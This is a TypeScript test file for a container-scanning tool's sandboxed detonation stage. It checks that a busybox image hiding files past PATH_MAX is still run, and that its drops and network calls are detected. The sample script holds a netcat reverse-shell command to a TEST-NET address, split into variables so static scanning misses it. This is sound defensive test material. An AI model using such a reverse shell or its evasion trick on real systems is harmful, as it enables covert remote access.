import { chmodSync, mkdtempSync, readdirSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { findExecutable } from '../../src/detonate/network/exec.js';
import type { RunRecord, Report } from '../../src/model/index.js';
import { runCli } from '../support/cli.js';
import { findBusybox, netnsWall } from '../support/netns-wall.js';
import { writeBusyboxImage } from './fixtures/samples/images.js';

/*
 * An image that hides its file 4,084 characters deep (16 names of 254 characters: under the static stage's 4,096
 * limit, past PATH_MAX once the run dir is in front of it) must still be detonated: `detonate scan` runs it under
 * each runtime, the sample reads and writes that deep, drops files past PATH_MAX in /tmp, and calls a TEST-NET
 * address with a shell, so the verdict and `--fail-on` see what it did. A name over 255 bytes (which Linux cannot
 * store) is left out with a notice. Runs in the wall, like every detonation test.
 */
const busybox = findBusybox();
const runtimes = (['gvisor', 'runc'] as const).filter((r) => findExecutable(r === 'gvisor' ? 'runsc' : 'runc'));

const wall = netnsWall({
  file: 'test/detonate/deep-path.test.ts',
  title: 'deep paths',
  expectPassed: runtimes.length,
  requires: () => (!busybox ? 'busybox-static not installed (apt-get install busybox-static)' : runtimes.length === 0 ? 'neither runsc nor runc is installed' : undefined),
});

const DEEP_NAMES = Array.from({ length: 16 }, (_, i) => `${String(i).padStart(2, '0')}${'d'.repeat(252)}`);
const DEEP_FILE = `${DEEP_NAMES.join('/')}/flag`;
const TOO_LONG_NAME = `opt/${'n'.repeat(256)}`;

// `cd -P` one name at a time: no single path that long reaches the file, in the container as on the host. The
// reverse shell is spelt so that the static stage does not see it: only the run can meet `--fail-on backdoor`.
const SCRIPT = `#!/bin/sh
cd -P / || exit 1
for c in ${DEEP_NAMES.join(' ')}; do cd -P "$c" || { echo deep-missing; break; }; done
echo "deep-read: $(cat flag)"
echo ok > written && echo "deep-write: $(cat written)"
cd -P /tmp || exit 1
for c in ${DEEP_NAMES.join(' ')}; do mkdir "$c" && cd -P "$c" || break; done
printf '#!/bin/sh\\necho dropped deep\\n' > dropped.sh && chmod 755 dropped.sh && echo "deep-drop: $(pwd -P | wc -c)"
printf '#!/bin/sh\\necho dropped\\n' > /tmp/dropped.sh && chmod 755 /tmp/dropped.sh
tool=n; shell=/bin/s
"\${tool}c" 192.0.2.10 4444 -e "\${shell}h"
`;

wall.describe(() => {
  let work: string;
  let archive: string;
  const env = (): NodeJS.ProcessEnv => ({ DETONATE_CACHE_DIR: join(work, 'cache'), DETONATE_WORK_DIR: join(work, 'runs') });

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), 'detonate-deep-'));
    chmodSync(work, 0o711); // runc's sandbox user (uid 100000) must traverse to its bundle
    archive = join(work, 'deep.tar');
    await writeBusyboxImage(archive, busybox!, SCRIPT, [
      { name: DEEP_FILE, content: 'planted 4,084 characters down' },
      { name: TOO_LONG_NAME, content: 'a name Linux cannot store' },
    ]);
  }, 60_000);

  afterAll(() => {
    if (work) execFileSync('rm', ['-rf', '--one-file-system', work]);
  });

  for (const sandbox of runtimes) {
    it(`runs the image under ${sandbox}: the sample sees its deep file, the verdict and --fail-on see the run`, async () => {
      const r = await runCli(
        ['scan', '--no-vulns', '--format', 'json', '--sandbox', sandbox, '--detonate-timeout', '8s', '--fail-on', 'backdoor', `oci-archive:${archive}`],
        env(),
        150_000,
      );
      const report = JSON.parse(r.stdout) as Report;
      const why = JSON.stringify({ code: r.code, behavior: report.behavior, notices: report.notices, stderr: r.stderr.slice(-3000) }).slice(0, 8000);
      expect(report.behavior, why).not.toHaveProperty('error');
      const behavior = report.behavior as RunRecord;
      console.log(`[timing] deep-path image under ${sandbox}: exit ${r.code}, setup ${behavior.timings.setupMs} ms (rootfs included), run ${behavior.durationMs} ms, teardown ${behavior.timings.teardownMs} ms`);
      expect(behavior.sandbox, why).toBe(sandbox);
      expect(behavior.output.stdout, why).toContain('deep-read: planted 4,084 characters down\n');
      expect(behavior.output.stdout, why).toContain('deep-write: ok\n');
      // the sample's own deep directory in /tmp: past PATH_MAX too (pwd's newline counted)
      expect(Number(/deep-drop: (\d+)/.exec(behavior.output.stdout)?.[1]), why).toBe(5 + 16 * 255);
      expect(behavior.dropped, why).toContainEqual(expect.objectContaining({ path: '/tmp/dropped.sh', mode: 0o755 }));
      // what the sample dropped past PATH_MAX is collected too: depth does not hide a payload from the static pass
      expect(behavior.dropped, why).toContainEqual(expect.objectContaining({ path: `/tmp/${DEEP_NAMES.join('/')}/dropped.sh`, mode: 0o755 }));
      expect(behavior.connections, why).toContainEqual(expect.objectContaining({ proto: 'tcp', dst: '192.0.2.10', port: 4444 }));
      // the static stage saw no backdoor: what meets --fail-on is the run
      expect(report.findings.filter((f) => f.category === 'backdoor').map((f) => f.source), why).toContain('dynamic');
      expect(report.findings.filter((f) => f.category === 'backdoor' && f.source === 'static'), why).toEqual([]);
      expect(report.verdict.malicious, why).toBe(true);
      expect(report.verdict.summary, why).not.toMatch(/could not be run/);
      // the one entry Linux cannot hold is named in a notice; the run went on without it
      expect(report.notices ?? [], why).toContainEqual(expect.objectContaining({ level: 'warning', path: TOO_LONG_NAME, message: expect.stringMatching(/255 bytes/) }));
      // --fail-on backdoor met: exit 1 (a run that could not be done would leave the static verdict, exit 0)
      expect(r.code, why).toBe(1);
      // the teardown removed the run dir, deep tree and all
      expect(readdirSync(join(work, 'runs'))).toEqual([]);
    }, 180_000);
  }
});
